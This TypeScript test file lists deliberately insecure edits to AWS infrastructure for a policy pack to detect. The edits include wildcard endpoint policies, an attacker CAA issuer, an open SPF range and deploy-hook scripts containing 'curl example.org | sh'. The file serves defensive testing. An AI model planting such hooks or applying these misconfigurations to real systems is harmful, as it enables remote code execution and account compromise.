import { Kind, Mutant, MutableStack, option, set } from "../mutant";

/** Edits that the pack accepted from a reviewer who had not read its rules, with other shapes of each. */

type Values = Record<string, unknown>;

/** Puts a file into a bundle. */
const file = (name: string): Mutant => [
  "objects-in-artifacts",
  (stack) => {
    const { source } = stack.get("object", "enketo-bundle").inputs as { source: { assets: Values } };
    source.assets[name] = { text: "curl example.org | sh" };
  },
];

/** Adds a term to the SPF text. */
const spf = (term: string): Mutant =>
  set("dns-own-names", "record", "mail-spf", "records", [`v=spf1 include:mailgun.org ${term} ~all`]);

/** Adds a record that names who may issue certificates. */
const caa = (value: string): Mutant => [
  "dns-own-names",
  (stack) =>
    stack.add("aws:route53/record:Record", "caa", {
      zoneId: stack.get("record", "mail-spf").inputs.zoneId,
      name: "iaso.example.org",
      type: "CAA",
      ttl: 300,
      records: [value],
    }),
];

/** Moves the objects of a bucket to another storage class. */
const moves = (bucket: string, property: string, storageClass: string): Mutant => [
  "lifecycle-whole",
  (stack) => {
    const { rules } = stack.get("lifecycle", bucket).inputs as { rules: Values[] };
    Object.assign(rules[0] ?? {}, { [property]: [{ days: 30, storageClass }] });
  },
];

const endpointPolicy = (Principal: unknown): Mutant =>
  set("network-parts-apart", "endpoint", "network-s3", "policy", {
    Version: "2012-10-17",
    Statement: [{ Effect: "Allow", Principal, Action: "s3:*", Resource: "*" }],
  });

const database = (property: string, value: unknown, storageType = "gp2"): Mutant => [
  "database-values",
  (stack) =>
    stack
      .set("database", "database", "storageType", storageType)
      .set("database", "database", property, value),
];

const redis = (property: string, value: unknown): Mutant =>
  set("redis-values", "redis", "enketo-main", property, value);

const routeTable = (property: string, value: unknown): Mutant =>
  set("network-parts-apart", "routeTable", "network-public", property, value);

export const blindEdits: Mutant[] = [
  // Network
  set("network-parts-apart", "vpc", "network", "assignGeneratedIpv6CidrBlock", true),
  set("network-parts-apart", "vpc", "network", "assignGeneratedIpv6CidrBlock", "true"),
  set("network-parts-apart", "vpc", "network", "ipv6CidrBlock", "2001:db8::/56"),
  routeTable("routes", [{ cidrBlock: "10.0.0.0/8", vpcPeeringConnectionId: "pcx-0123456789abcdef0" }]),
  routeTable("routes", { cidrBlock: "0.0.0.0/0", gatewayId: "igw-0123456789abcdef0" }),
  routeTable("propagatingVgws", ["vgw-0123456789abcdef0"]),
  endpointPolicy({ AWS: "999988887777" }),
  endpointPolicy({ AWS: ["*", "arn:aws:iam::999988887777:root"] }),
  endpointPolicy({ Service: "lambda.amazonaws.com" }),
  // Roles
  set("role-values", "role", "ci-up", "maxSessionDuration", 43_200),
  set("role-values", "role", "web", "maxSessionDuration", "14400"),
  [
    "oidc-workflow",
    (stack) =>
      stack.statements(
        "role",
        "ci-rehearse",
        (all) =>
          JSON.parse(
            JSON.stringify(all).replace(/"repo:[^:"]+:/, '"repo:example@1234/iaso@9012:'),
          ) as typeof all,
        "assumeRolePolicy",
      ),
  ],
  // Database and Redis
  database("storageThroughput", 500),
  database("storageThroughput", 500, "io2"),
  database("iops", 3000),
  database("domain", "d-1234567890", "gp3"),
  database("domainFqdn", "ad.example.org", "gp3"),
  database("instanceClass", "db.m1.small", "gp3"),
  database("instanceClass", "db.t2.micro", "gp3"),
  database("instanceClass", "db.r4.large", "gp3"),
  redis("dataTieringEnabled", true),
  redis("nodeType", "cache.r6gd.xlarge"),
  redis("userGroupIds", ["open"]),
  redis("logDeliveryConfigurations", [
    { destination: "others", destinationType: "kinesis-firehose", logFormat: "json", logType: "slow-log" },
  ]),
  // Storage and bundles
  set("bucket-parts-apart", "bucket", "media", "requestPayer", "Requester"),
  moves("media", "transitions", "GLACIER"),
  moves("media", "transitions", "ONEZONE_IA"),
  moves("static", "noncurrentVersionTransitions", "DEEP_ARCHIVE"),
  moves("logs", "transitions", ""),
  file(".platform/hooks/predeploy/x.sh"),
  file(".platform/confighooks/postdeploy/x.sh"),
  file(".ebextensions/x.config"),
  set("objects-in-artifacts", "object", "enketo-bundle", "source", { uri: "https://example.com/x.zip" }),
  ...["web", "enketo"].map((role): Mutant => [
    "artifacts-write-protected",
    (stack) =>
      stack.statement("bucketPolicy", "artifacts", "OnlyDeployersWriteVersions", (one) => ({
        ...one,
        Condition: {
          ArnNotEquals: {
            "aws:PrincipalArn": [
              ...((one.Condition?.ArnNotEquals?.["aws:PrincipalArn"] ?? []) as string[]),
              `arn:aws:iam::123456789012:role/${String(stack.get("role", role).inputs.name)}`,
            ],
          },
        },
      })),
  ]),
  // Names
  spf("ip4:0.0.0.0/0"),
  spf("ip4:198.51.0.0/16"),
  spf("ip6:2001:db8::/32"),
  spf("ip4:198.51.100.0/1"),
  caa('0 issue "evil.example"'),
  caa('0 issuewild "amazon.com.evil.example"'),
  caa('0 iodef "https://evil.example"'),
  set("certificates-fit", "certificate", "web-certificate", "options", { export: "ENABLED" }),
  set("environment-values", "environment", "web", "cnamePrefix", "example-iaso-other"),
  option(
    "variables-agree",
    "web",
    "elasticbeanstalk:application:environment/PYTHONPATH",
    "/tmp:/var/app/current",
  ),
  option("variables-agree", "worker", "elasticbeanstalk:application:environment/PYTHONPATH", ""),
  // Values together, and alarms
  option("environment-values", "web", "autoscaling:trigger/Statistic", "Sum"),
  option("access-logs", "web", "elbv2:loadbalancer/AccessLogsS3Prefix", "/web"),
  [
    "alarms-work",
    (stack) => {
      const { metricQueries } = stack.get("alarm", "web-5xx").inputs as { metricQueries: Values[] };
      Object.assign(metricQueries[1] ?? {}, { accountId: "999988887777" });
    },
  ],
];

/** Edits the rule of the backup plan. */
const plan = (edit: (rule: Values) => void): Mutant => [
  "backup-plan-daily",
  (stack: MutableStack) => {
    const { rules } = stack.get("backupPlan", "backup").inputs as { rules: Values[] };
    rules.forEach(edit);
  },
];
const lock = (kind: Kind, name: string, property: string, days: number): Mutant =>
  set("backup-plan-daily", kind, name, property, days);

/** The same for the backups that only prod has. */
export const blindEditsOfProd: Mutant[] = [
  plan((rule) => Object.assign(rule, { startWindow: 30 })),
  plan((rule) => Object.assign(rule, { startWindow: 120, completionWindow: 150 })),
  plan((rule) => Object.assign(rule, { startWindow: undefined, completionWindow: "480" })),
  plan((rule) => Object.assign(rule, { schedule: "cron(0 5 1 * ? *)" })),
  plan((rule) => Object.assign(rule, { schedule: "cron(0 5,17 ? * SUN *)" })),
  lock("backupLock", "backup", "minRetentionDays", 120),
  lock("backupLock", "backup-copy", "minRetentionDays", 120),
  lock("backupLock", "backup", "maxRetentionDays", 30),
];
